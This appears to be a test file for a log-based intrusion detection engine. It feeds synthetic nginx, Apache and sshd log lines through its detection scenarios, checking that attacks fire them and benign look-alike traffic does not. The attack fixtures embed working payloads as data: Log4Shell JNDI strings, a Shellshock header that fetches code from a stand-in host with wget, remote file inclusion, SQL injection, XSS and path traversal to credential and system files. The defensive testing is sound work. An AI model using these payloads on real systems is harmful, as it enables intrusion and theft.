import { describe, expect, it } from "vitest";
import type { Event } from "../ingest/event.js";
import { finishEvent } from "../ingest/normalise.js";
import { parseLine } from "../ingest/parsers/registry.js";
import { createDetectionEngine } from "./engine.js";
import { builtinScenariosDir, loadScenarioFolder } from "./scenario-files.js";
import type { Detection, Scenario } from "./types.js";

/**
 * The scenario library (issue 11): for every shipped web and SSH scenario, its attack written as raw
 * log lines fires it, and look-alike benign traffic (a 404 storm from a broken link, a user mistyping a
 * password twice, a search engine crawling) trips no scenario at all. Lines go through the real parsers
 * and the engine with every shipped scenario, as a syslog line would. Times come from the clock.
 */

/** A line written at `at` (ms). */
type Line = { at: number; text: string };

const BASE = Math.floor((Date.now() - 8 * 3_600_000) / 1000) * 1000;
const MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const p2 = (n: number) => String(n).padStart(2, "0");
const clf = (at: number) => {
  const d = new Date(at);
  return `${p2(d.getUTCDate())}/${MON[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
};
const hms = (d: Date) => `${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;

interface Req {
  method?: string;
  status?: number;
  ua?: string;
  ref?: string;
  user?: string;
}
const BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

/** An nginx combined access line. */
function web(at: number, ip: string, path: string, r: Req = {}): Line {
  return {
    at,
    text: `${ip} - ${r.user ?? "-"} [${clf(at)}] "${r.method ?? "GET"} ${path} HTTP/1.1" ${r.status ?? 200} 512 "${r.ref ?? "-"}" "${r.ua ?? BROWSER}"`,
  };
}

/** An nginx error-log line for a client. */
function nginxError(at: number, ip: string, message: string): Line {
  const d = new Date(at);
  const date = `${d.getUTCFullYear()}/${p2(d.getUTCMonth() + 1)}/${p2(d.getUTCDate())}`;
  return {
    at,
    text: `${date} ${hms(d)} [error] 812#0: *4711 ${message}, client: ${ip}, server: www.example.org, request: "GET /private/ HTTP/1.1", host: "www.example.org"`,
  };
}

/** An Apache 2.4 error-log line for a client. */
function apacheError(at: number, ip: string, module: string, message: string): Line {
  const d = new Date(at);
  const day = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"][d.getUTCDay()];
  const time = `${day} ${MON[d.getUTCMonth()]} ${p2(d.getUTCDate())} ${hms(d)}.${String(d.getUTCMilliseconds() * 1000).padStart(6, "0")} ${d.getUTCFullYear()}`;
  return { at, text: `[${time}] [${module}] [pid 2928] [client ${ip}:37924] ${message}` };
}

/** A classic syslog sshd line. */
function sshd(at: number, message: string): Line {
  const d = new Date(at);
  return {
    at,
    text: `${MON[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${hms(d)} bastion sshd[2201]: ${message}`,
  };
}

/** `n` lines, `every` ms apart from `start`. */
function times(n: number, start: number, every: number): number[] {
  return Array.from({ length: n }, (_, i) => start + i * every);
}

let shipped: Scenario[] | null = null;
async function library(): Promise<Scenario[]> {
  if (!shipped) {
    const loaded = await loadScenarioFolder(builtinScenariosDir(), "builtin");
    expect(loaded.errors).toEqual([]);
    shipped = loaded.scenarios.map((s) => s.scenario);
  }
  return shipped;
}

async function detect(lines: Line[]): Promise<Detection[]> {
  const fired: Detection[] = [];
  const engine = createDetectionEngine({
    scenarios: await library(),
    onDetection: (d) => fired.push(d),
    maxSkewMs: null,
  });
  const events: Event[] = [];
  for (const l of [...lines].sort((a, b) => a.at - b.at)) {
    const draft = parseLine(l.text, { receivedAt: l.at, timezone: "UTC" }).event;
    expect(draft?.source_type, l.text).not.toBe("unknown");
    if (draft) events.push(finishEvent(draft, { site: "test", sender: "192.0.2.1" }, null, l.at));
  }
  engine.process(events);
  return fired;
}

interface Case {
  scenario: string;
  attacker: string;
  attack: Line[];
  /** Look-alike benign traffic: must trip no scenario. */
  benign: Line[];
}

const A = "203.0.113.66";
const U = "198.51.100.20"; // a benign user
const t = (s: number) => BASE + s * 1000;

const CASES: Case[] = [
  {
    scenario: "web-exploit-cve",
    attacker: A,
    attack: [
      web(t(0), A, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", { method: "POST", status: 404 }),
    ],
    benign: [
      web(t(0), U, "/vendor/app.js"),
      web(t(1), U, "/cgi-bin/status"),
      web(t(2), U, "/products?page=2"),
      web(t(3), U, "/phpunit-results.html", { status: 404 }),
    ],
  },
  {
    scenario: "web-log4j",
    attacker: A,
    attack: [web(t(0), A, "/", { ua: "${jndi:ldap://198.51.100.99:1389/Exploit}" })],
    benign: [
      web(t(0), U, "/search?q=%24%7Bprice%7D+template"),
      web(t(1), U, "/docs/jndi-lookups.html", { ref: "https://logging.apache.org/log4j/2.x/" }),
    ],
  },
  {
    scenario: "web-log4j",
    attacker: "203.0.113.67",
    attack: [web(t(0), "203.0.113.67", "/about", { ref: "${${lower:j}ndi:rmi://198.51.100.99/x}" })],
    benign: [],
  },
  {
    scenario: "web-shell-probe",
    attacker: A,
    attack: ["/shell.php", "/wso.php", "/c99.php", "/wp-content/uploads/alfa.php"].map((p, i) =>
      web(t(i), A, p, { status: 404 }),
    ),
    benign: [
      ...times(5, t(0), 10_000).map((at) => web(at, U, "/shell.php")),
      web(t(60), U, "/seashells.html"),
      web(t(61), U, "/upload.php"),
    ],
  },
  {
    scenario: "web-sensitive-files",
    attacker: A,
    attack: ["/.env", "/.git/config", "/backup.sql", "/.aws/credentials", "/wp-config.php.bak"].map((p, i) =>
      web(t(i), A, p, { status: 404, ua: "curl/8.4.0" }),
    ),
    benign: [
      // A 404 storm from a broken link: one missing image, fifty times.
      ...times(50, t(0), 500).map((at) => web(at, U, "/images/missing-logo.png", { status: 404 })),
      web(t(30), U, "/.well-known/acme-challenge/Xy12"),
      web(t(31), U, "/config.js"),
      web(t(32), U, "/environment/", { status: 404 }),
      web(t(33), U, "/.env", { status: 404 }),
    ],
  },
  {
    scenario: "web-path-traversal",
    attacker: A,
    attack: [
      web(t(0), A, "/%2fetc%2fpasswd", { status: 404, ua: "curl/7.68.0" }),
      web(t(5), A, "/download?file=..%2f..%2f..%2fwindows%2fwin.ini", { status: 400 }),
    ],
    benign: [
      web(t(0), U, "/files/report..final.pdf"),
      web(t(1), U, "/a/b/./c"),
      web(t(2), U, "/etc-shop/passwd-reset"),
      web(t(3), U, "/v1.2.3/changelog"),
    ],
  },
  {
    scenario: "web-sqli-probe",
    attacker: A,
    attack: [
      web(t(0), A, "/products.php?id=1%27%20or%20%271%27=%271"),
      web(t(3), A, "/item?id=1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version())--"),
      web(t(6), A, "/item?id=1;waitfor+delay+'0:0:5'--"),
    ],
    benign: [
      web(t(0), U, "/search?q=union+station+select+seats"),
      web(t(1), U, "/blog/selecting-a-database-from-the-menu"),
      web(t(2), U, "/search?q=tom's+or+jerry's"),
      web(t(3), U, "/search?q=select+items+from+list"),
      web(t(4), U, "/sleep-better?page=2"),
    ],
  },
  {
    scenario: "web-xss-probe",
    attacker: A,
    attack: [
      web(t(0), A, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
      web(t(2), A, "/p?x=%22%3E%3Csvg/onload=alert(document.domain)%3E"),
    ],
    benign: [
      web(t(0), U, "/blog/javascript-tips"),
      web(t(1), U, "/search?q=onload+event+handler"),
      web(t(2), U, "/search?q=alert+settings"),
    ],
  },
  {
    scenario: "web-scanner-user-agent",
    attacker: "127.0.0.1",
    attack: [
      web(t(0), "127.0.0.1", "/", {
        method: "HEAD",
        ua: "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
      }),
    ],
    benign: [
      web(t(0), U, "/", { ua: GOOGLEBOT }),
      web(t(1), U, "/", { ua: "curl/8.4.0" }),
      web(t(2), U, "/api/v1/cart", { ua: "python-requests/2.32.3" }),
    ],
  },
  {
    scenario: "web-wordpress-scan",
    attacker: A,
    attack: [
      "/wp-json/wp/v2/users",
      "/?author=1",
      "/?author=2",
      "/wp-includes/wlwmanifest.xml",
      "/wp-content/plugins/akismet/readme.txt",
    ].map((p, i) => web(t(i * 5), A, p, { ua: "WordPress/6.5; https://example.org" })),
    benign: [
      web(t(0), U, "/wp-content/themes/twentytwenty/style.css"),
      web(t(1), U, "/wp-includes/js/jquery/jquery.min.js"),
      web(t(2), U, "/?p=12"),
      web(t(3), U, "/?author=1"),
      web(t(4), U, "/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fexample.org%2F"),
    ],
  },
  {
    scenario: "web-wordpress-login-flood",
    attacker: A,
    attack: times(15, t(0), 2000).map((at) => web(at, A, "/wp-login.php", { method: "POST", status: 200 })),
    benign: [
      web(t(0), U, "/wp-login.php"),
      web(t(10), U, "/wp-login.php", { method: "POST", status: 200 }),
      web(t(25), U, "/wp-login.php", { method: "POST", status: 302 }),
      ...times(3, t(100), 60_000).map((at) =>
        web(at, U, "/xmlrpc.php", { method: "POST", ua: "Jetpack by WordPress.com" }),
      ),
    ],
  },
  {
    scenario: "web-admin-probe",
    attacker: A,
    attack: [
      web(t(0), A, "/phpmyadmin/", { status: 404 }),
      web(t(1), A, "/pma/", { status: 404 }),
      web(t(2), A, "/adminer.php", { status: 404 }),
      web(t(3), A, "/manager/html", { status: 401 }),
    ],
    benign: [
      web(t(0), U, "/admin/login", { status: 401 }),
      web(t(5), U, "/admin/login", { method: "POST", status: 302 }),
      ...times(6, t(6), 2000).map((at) => web(at, U, "/admin/", { user: "bob" })),
    ],
  },
  {
    scenario: "web-auth-bruteforce",
    attacker: A,
    attack: times(8, t(0), 3000).map((at, i) =>
      nginxError(at, A, `user "admin${i}" was not found in "/etc/nginx/.htpasswd"`),
    ),
    benign: [
      // A browser meets the challenge, its user mistypes twice, then gets in.
      web(t(0), U, "/private/", { status: 401 }),
      web(t(5), U, "/private/", { status: 401, user: "bob" }),
      nginxError(t(5), U, 'user "bob": password mismatch'),
      web(t(9), U, "/private/", { status: 401, user: "bob" }),
      nginxError(t(9), U, 'user "bob": password mismatch'),
      web(t(14), U, "/private/", { user: "bob" }),
      // An app polling with an expired token.
      ...times(20, t(0), 10_000).map((at) =>
        web(at, "198.51.100.21", "/api/v1/notifications", { status: 401 }),
      ),
    ],
  },
  {
    scenario: "web-login-flood",
    attacker: A,
    attack: times(30, t(0), 1000).map((at) => web(at, A, "/api/login", { method: "POST", status: 200 })),
    benign: times(3, t(0), 20_000).map((at) => web(at, U, "/login", { method: "POST", status: 200 })),
  },
  {
    scenario: "web-crawl-non-static",
    attacker: A,
    attack: times(50, t(0), 500).map((at, i) => web(at, A, `/page-${i}`, { ua: "Mozilla/5.0" })),
    benign: [
      ...times(60, t(0), 500).map((at, i) => web(at, "66.249.66.1", `/article/${i}`, { ua: GOOGLEBOT })),
      web(t(0), U, "/"),
      ...times(40, t(1), 50).map((at, i) => web(at, U, `/static/chunk-${i}.js`)),
    ],
  },
  {
    scenario: "web-limit-req",
    attacker: A,
    attack: times(12, t(0), 800).map((at) =>
      nginxError(at, A, 'limiting requests, excess: 20.500 by zone "one"'),
    ),
    benign: times(3, t(0), 5000).map((at) =>
      nginxError(at, U, 'limiting requests, excess: 5.100 by zone "one"'),
    ),
  },
  {
    scenario: "web-shellshock",
    attacker: A,
    attack: [
      web(t(0), A, "/cgi-bin/test.cgi", { ua: "() { :; }; /bin/bash -c 'wget http://198.51.100.99/x'" }),
    ],
    benign: [web(t(0), U, "/docs/fn()", { ua: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)" })],
  },
  {
    scenario: "web-rfi",
    attacker: A,
    attack: [web(t(0), A, "/index.php?page=http://198.51.100.99/shell.txt?", { status: 200 })],
    benign: [
      web(t(0), U, "/login?next=https://app.example.org/dashboard"),
      web(t(1), U, "/out?url=https://www.example.org/page", { status: 302 }),
      web(t(2), U, "/share?u=https%3A%2F%2Fexample.org%2Fpost%3Fid%3D3"),
      // A failed attempt (404) is http-probing's to count, not a successful inclusion.
      web(t(3), "198.51.100.22", "/start.php?lang=http://cirt.net/rfiinc.txt?", { status: 404 }),
    ],
  },
  {
    scenario: "web-error-probing",
    attacker: A,
    attack: [
      "php",
      "php4",
      "php5",
      "php-cgi",
      "php.cgi",
      "test.cgi",
      "luci",
      "admin.cgi",
      "bash",
      "sh",
      "perl",
    ].map((s, i) =>
      apacheError(
        t(i * 3),
        A,
        "cgi:error",
        `AH02811: script not found or unable to stat: /usr/lib/cgi-bin/${s}`,
      ),
    ),
    benign: times(100, t(0), 300).map((at) =>
      apacheError(at, U, "core:info", "AH00128: File does not exist: /var/www/html/images/missing-logo.png"),
    ),
  },
  {
    scenario: "web-bad-request",
    attacker: A,
    attack: times(5, t(0), 30_000).map((at, i) =>
      apacheError(at, A, "core:error", `AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/${i}/bin/sh)`),
    ),
    benign: [
      apacheError(
        t(0),
        U,
        "ssl:error",
        "AH02032: Hostname www.example.org provided via SNI and hostname other.example.org provided via HTTP have no compatible SSL setup",
      ),
      apacheError(t(60), U, "core:error", "AH00126: Invalid URI in request GET /%%bad HTTP/1.1"),
    ],
  },
  {
    scenario: "ssh-bruteforce",
    attacker: A,
    attack: times(6, t(0), 10_000).map((at, i) =>
      sshd(at, `Failed password for root from ${A} port ${39000 + i} ssh2`),
    ),
    benign: [
      sshd(t(0), `Failed password for bob from ${U} port 50000 ssh2`),
      sshd(t(6), `Failed password for bob from ${U} port 50000 ssh2`),
      sshd(t(12), `Accepted password for bob from ${U} port 50000 ssh2`),
    ],
  },
  {
    scenario: "ssh-slow-bruteforce",
    attacker: A,
    // One guess every 20 minutes for 4 hours: under ssh-bruteforce's 5 in 2 minutes.
    attack: times(13, t(0), 20 * 60_000).map((at, i) =>
      sshd(at, `Failed password for root from ${A} port ${40000 + i} ssh2`),
    ),
    benign: [
      sshd(t(0), `Failed password for bob from ${U} port 50001 ssh2`),
      sshd(t(8), `Failed password for bob from ${U} port 50001 ssh2`),
      sshd(t(15), `Accepted password for bob from ${U} port 50001 ssh2`),
      // A monitor's TCP check every minute for six hours.
      ...times(360, t(0), 60_000).map((at, i) =>
        sshd(at, `Connection closed by 198.51.100.30 port ${20000 + i} [preauth]`),
      ),
    ],
  },
  {
    scenario: "ssh-user-enum",
    attacker: A,
    attack: ["admin", "oracle", "test", "ubnt", "postgres", "git"].map((u, i) =>
      sshd(t(i * 300), `Invalid user ${u} from ${A} port ${41000 + i}`),
    ),
    benign: [
      sshd(t(0), `Invalid user bbo from ${U} port 50002`),
      sshd(t(1), `Failed password for invalid user bbo from ${U} port 50002 ssh2`),
      sshd(t(20), `Failed password for bob from ${U} port 50003 ssh2`),
      sshd(t(30), `Accepted publickey for bob from ${U} port 50004 ssh2: ED25519 SHA256:abc`),
    ],
  },
  {
    scenario: "ssh-refused",
    attacker: A,
    attack: times(3, t(0), 60_000).map((at) => sshd(at, `refused connect from scanner.example (${A})`)),
    benign: [sshd(t(0), `User alice from ${U} not allowed because not listed in AllowUsers`)],
  },
  {
    scenario: "ssh-bad-kex",
    attacker: A,
    attack: times(5, t(0), 60_000).map((at, i) =>
      sshd(
        at,
        `Unable to negotiate with ${A} port ${42000 + i}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]`,
      ),
    ),
    benign: [
      sshd(
        t(0),
        `Unable to negotiate with ${U} port 50005: no matching host key type found. Their offer: ssh-rsa [preauth]`,
      ),
      sshd(t(30), `Accepted publickey for bob from ${U} port 50006 ssh2: ED25519 SHA256:abc`),
    ],
  },
  {
    scenario: "ssh-preauth-timeout",
    attacker: A,
    attack: times(8, t(0), 5 * 60_000).map((at, i) =>
      sshd(at, `Timeout before authentication for ${A} port ${43000 + i}`),
    ),
    benign: [
      sshd(t(0), `Timeout before authentication for ${U} port 50007`),
      sshd(t(1800), `Timeout before authentication for ${U} port 50008`),
    ],
  },
];

describe("scenario library: each scenario fires on its attack and not on look-alike traffic", () => {
  it("every shipped scenario has a description, MITRE labels and a severity, and every web/SSH one a case here", async () => {
    const list = await library();
    const covered = new Set(CASES.map((c) => c.scenario));
    for (const s of list) {
      expect(s.description, s.name).not.toBe("");
      expect(
        s.labels.some((l) => /^T\d{4}/.test(l)),
        s.name,
      ).toBe(true);
      if (/^(?:web|ssh)-/.test(s.name)) expect(covered.has(s.name), `${s.name} has no test case`).toBe(true);
    }
    for (const c of CASES)
      expect(
        list.some((s) => s.name === c.scenario),
        c.scenario,
      ).toBe(true);
  });

  for (const [i, c] of CASES.entries()) {
    it(`${c.scenario} fires on its attack${i > 0 && CASES[i - 1]?.scenario === c.scenario ? " (variant)" : ""}`, async () => {
      const fired = await detect(c.attack);
      expect(fired.map((d) => `${d.scenario} ${d.value}`)).toContain(`${c.scenario} ${c.attacker}`);
    });
    if (c.benign.length > 0)
      it(`${c.scenario} stays silent on look-alike benign traffic (so does every scenario)`, async () => {
        const fired = await detect(c.benign);
        expect(fired.map((d) => `${d.scenario} ${d.value}`)).toEqual([]);
      });
  }
});
